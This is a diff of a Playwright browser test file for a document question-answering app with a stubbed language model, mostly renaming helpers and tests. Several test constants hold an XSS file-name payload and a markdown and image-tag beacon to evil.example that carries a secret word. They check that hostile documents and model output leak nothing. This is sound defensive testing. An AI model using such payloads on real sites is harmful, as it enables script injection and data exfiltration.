@@ -6,13 +6,13 @@ import httpx2
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.browser.conftest import PHONE, serve, shoot
+from tests.browser.conftest import PHONE, screenshot, serve
+from tests.browser.documents import document, provide_documents, upload
 from tests.browser.files import catalogue, handbook, policy, text
-from tests.browser.library import document, hold, upload
-from tests.browser.ollama import StandIn
+from tests.browser.ollama import OllamaStub
 from tests.browser.test_chat import answered, ask
 from tests.browser.test_reach import FITS, contrast
-from tests.browser.test_untrusted_text import ACTIVE, HOSTILE, at_home
+from tests.browser.test_untrusted_text import ACTIVE, HOSTILE, no_external_request
 
 QUESTION = "When is the dome closed?"
 HOSTILE_NAME = "<img src=x onerror=alert(1)>.txt"
@@ -22,12 +22,12 @@ REFUSED = "Who painted the Mona Lisa?"
 @pytest.fixture
 def page(open_page: Callable[..., Page], layer2: str) -> Page:
     """Layer 2's page with three documents."""
-    hold(layer2, handbook(), policy(), catalogue())
+    provide_documents(layer2, handbook(), policy(), catalogue())
     return open_page(layer2)
 
 
 @pytest.fixture(scope="module")
-def layer2_with_model(_ollama: StandIn) -> Iterator[str]:
+def layer2_with_model(_ollama: OllamaStub) -> Iterator[str]:
     yield from serve(2, LLM_PROVIDER="ollama", OLLAMA_URL=_ollama.url)
 
 
@@ -43,13 +43,13 @@ def test_a_citation_opens_the_quote_in_its_context(page: Page) -> None:
     expect(view.locator("mark")).to_be_in_viewport()
     expect(view).to_contain_text("nobody works alone under the dome")
     expect(view).to_contain_text("Page 2")
-    expect(view).to_contain_text("The quote is the document’s text, word for word.")
-    shoot(page, "layer2-citation.png")
+    expect(view).to_contain_text("The quote matches the document word for word.")
+    screenshot(page, "layer2-citation.png")
     view.get_by_role("button", name="Close").click()
     expect(cite.first).to_be_focused()
 
 
-def test_sources_can_be_stepped_through(page: Page) -> None:
+def test_buttons_step_through_the_sources(page: Page) -> None:
     ask(page, "What does the handbook say about the dome, the night shift and the mirror?")
     answered(page)
     sources = page.get_by_role("list", name="Sources").get_by_role("button")
@@ -57,7 +57,7 @@ def test_sources_can_be_stepped_through(page: Page) -> None:
     assert number > 1
     sources.first.click()
     view = page.get_by_role("dialog")
-    expect(view.get_by_role("button", name="Source before")).to_be_disabled()
+    expect(view.get_by_role("button", name="Previous source")).to_be_disabled()
     for at in range(2, number + 1):
         view.get_by_role("button", name="Next source").click()
         expect(view).to_contain_text(f"{at} of {number}")
@@ -75,7 +75,7 @@ def test_after_a_reload_the_citations_still_open(page: Page) -> None:
     expect(page.locator("mark")).to_contain_text("The dome is closed")
 
 
-def test_the_source_of_a_deleted_document_says_so_and_quotes_nothing(page: Page) -> None:
+def test_the_source_of_a_deleted_document_shows_no_quote(page: Page) -> None:
     ask(page, QUESTION)
     answered(page)
     document(page, "staff-handbook.pdf").hover()
@@ -86,7 +86,7 @@ def test_the_source_of_a_deleted_document_says_so_and_quotes_nothing(page: Page)
     assert page.locator("mark").count() == 0
 
 
-def test_offsets_count_characters_that_javascript_counts_twice(page: Page) -> None:
+def test_offsets_count_code_points(page: Page) -> None:
     upload(page, text("emoji.txt", "🔭🌌✨ " * 300 + "\n\nThe comet 𝔎𝔬𝔪𝔢𝔱 returns in 2061. " + "🌠" * 30))
     ask(page, "When does the comet return?")
     answered(page)
@@ -95,7 +95,7 @@ def test_offsets_count_characters_that_javascript_counts_twice(page: Page) -> No
     expect(page.get_by_role("dialog")).to_contain_text("word for word")
 
 
-def test_a_refusal_is_calm_and_says_what_helps(page: Page) -> None:
+def test_a_refusal_gives_advice(page: Page) -> None:
     ask(page, REFUSED)
     answered(page)
     answer = page.get_by_role("article").last
@@ -125,18 +125,18 @@ def test_everything_by_keyboard(page: Page) -> None:
     page.keyboard.press("Tab")
     page.keyboard.press("Enter")
     expect(document(page, "instruments.html")).to_have_count(0)
-    expect(page.locator(".documents button:focus")).to_be_visible()  # the next document's
+    expect(page.locator(".documents button:focus")).to_be_visible()  # of the next document
 
 
-def test_what_it_looks_like(page: Page) -> None:
+def test_appearance(page: Page) -> None:
     ask(page, "Who founded the observatory, and when?")
     answered(page)
     ask(page, QUESTION)
     answered(page)
-    shoot(page, "layer2.png")
+    screenshot(page, "layer2.png")
 
 
-def test_in_the_dark(page: Page, open_page: Callable[..., Page], layer2: str) -> None:
+def test_dark_colours(page: Page, open_page: Callable[..., Page], layer2: str) -> None:
     dark = open_page(layer2, color_scheme="dark", reduced_motion="reduce")
     ask(dark, QUESTION)
     answered(dark)
@@ -152,7 +152,7 @@ def test_in_the_dark(page: Page, open_page: Callable[..., Page], layer2: str) ->
         ".documents small",
     ):
         assert contrast(dark, selector) >= 4.5, selector
-    shoot(dark, "layer2-dark.png")
+    screenshot(dark, "layer2-dark.png")
 
 
 def test_on_a_phone(page: Page, open_page: Callable[..., Page], layer2: str) -> None:
@@ -162,7 +162,7 @@ def test_on_a_phone(page: Page, open_page: Callable[..., Page], layer2: str) -> 
     ask(phone, QUESTION)
     answered(phone)
     assert phone.evaluate(FITS)
-    shoot(phone, "layer2-phone.png")
+    screenshot(phone, "layer2-phone.png")
     phone.locator(".cite").first.tap()
     expect(phone.locator("mark")).to_be_in_viewport()
     assert phone.evaluate(FITS)
@@ -174,13 +174,13 @@ def test_on_a_phone(page: Page, open_page: Callable[..., Page], layer2: str) -> 
 
 
 @pytest.fixture
-def written(open_page: Callable[..., Page], layer2_with_model: str, ollama: StandIn) -> Page:
+def written(open_page: Callable[..., Page], layer2_with_model: str, ollama: OllamaStub) -> Page:
     """Layer 2's page with a language model and the handbook."""
-    hold(layer2_with_model, handbook())
+    provide_documents(layer2_with_model, handbook())
     return open_page(layer2_with_model)
 
 
-def test_a_written_answer_cites_while_it_streams(written: Page, ollama: StandIn) -> None:
+def test_a_written_answer_cites_while_it_streams(written: Page, ollama: OllamaStub) -> None:
     ollama.pieces = ["It closes in strong wind [1].\n\n", "More to come."]
     ollama.held.set()
     ask(written, QUESTION)
@@ -191,7 +191,7 @@ def test_a_written_answer_cites_while_it_streams(written: Page, ollama: StandIn)
     expect(written.locator("mark")).to_contain_text("The dome is closed")
 
 
-def test_invented_markers_are_named_and_code_is_left_alone(written: Page, ollama: StandIn) -> None:
+def test_invented_markers_are_named_and_code_is_left_alone(written: Page, ollama: OllamaStub) -> None:
     ollama.say("It closes in wind [1] [9], see `list[1]`.")
     ask(written, QUESTION)
     answered(written)
@@ -201,7 +201,7 @@ def test_invented_markers_are_named_and_code_is_left_alone(written: Page, ollama
     expect(answer).to_contain_text("The model cited 1 source that does not exist")
 
 
-def test_an_answer_without_sources_is_marked_and_can_be_asked_for(written: Page, ollama: StandIn) -> None:
+def test_the_model_can_answer_without_sources_and_the_answer_is_marked(written: Page, ollama: OllamaStub) -> None:
     ollama.say("Leonardo da Vinci.")
     ask(written, REFUSED)
     answered(written)
@@ -214,9 +214,9 @@ def test_an_answer_without_sources_is_marked_and_can_be_asked_for(written: Page,
     expect(written.get_by_role("article").last).to_contain_text("I found nothing in the documents")
 
 
-def test_a_hostile_document_and_model_leak_nothing(written: Page, layer2_with_model: str, ollama: StandIn) -> None:
+def test_a_hostile_document_and_model_leak_nothing(written: Page, layer2_with_model: str, ollama: OllamaStub) -> None:
     ollama.say(f"The word is xylograph [1].\n\n{HOSTILE}")
-    with at_home(written):
+    with no_external_request(written):
         upload(written, text(HOSTILE_NAME, f"The secret word is xylograph.\n\n{HOSTILE}"))
         ask(written, "What is the secret word?")
         answered(written)
@@ -229,7 +229,7 @@ def test_a_hostile_document_and_model_leak_nothing(written: Page, layer2_with_mo
 
 def test_a_hostile_document_as_the_answer_itself_leaks_nothing(page: Page) -> None:
     word = "The secret word is ![xylograph](http://evil.example/pixel.png?q=secret) <img src=http://evil.example/x>."
-    with at_home(page):
+    with no_external_request(page):
         upload(page, text(HOSTILE_NAME, f"{word}\n\n{HOSTILE}"))
         ask(page, "What is the secret word?")
         answered(page)
@@ -240,6 +240,6 @@ def test_a_hostile_document_as_the_answer_itself_leaks_nothing(page: Page) -> No
 
 
 def active(page: Page) -> int:
-    """So many elements could load, send or run something, of those that a document or an answer had a part in."""
-    places = ("article .body", "article .sources", "#drawer .text-part", "#sidebar .documents")
-    return sum(page.locator(place).locator(ACTIVE).count() for place in places)
+    """The number of elements that could load, send or run something, among those built from answers and documents."""
+    containers = ("article .body", "article .sources", "#drawer .text-part", "#sidebar .documents")
+    return sum(page.locator(container).locator(ACTIVE).count() for container in containers)
